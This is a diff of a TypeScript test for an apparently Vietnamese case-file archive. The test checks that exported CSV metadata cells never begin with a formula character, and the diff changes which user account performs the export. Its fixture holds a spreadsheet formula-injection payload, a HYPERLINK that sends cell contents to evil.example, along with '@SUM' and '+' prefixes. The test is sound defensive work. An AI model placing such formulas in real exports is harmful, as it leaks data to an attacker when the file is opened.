@@ -517,7 +517,7 @@ describe('export and import packages', () => {
     const description = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")';
     const cf = await create('snv.cv.tcbc', { notation: '32.TCBC', title: '@SUM(1+1) hồ sơ công thức', retentionYears: 10, startDate: '2025-01-02', description });
     ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('+1 cộng với -1') }), 201);
-    const files = await contents((await binary((await as('snv.cv.tcbc')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer);
+    const files = await contents((await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`))).body as Buffer);
     const csv = files['metadata.csv'].toString();
     // Every cell, quoted or not: none may start with a formula character.
     const cells = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean).flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));
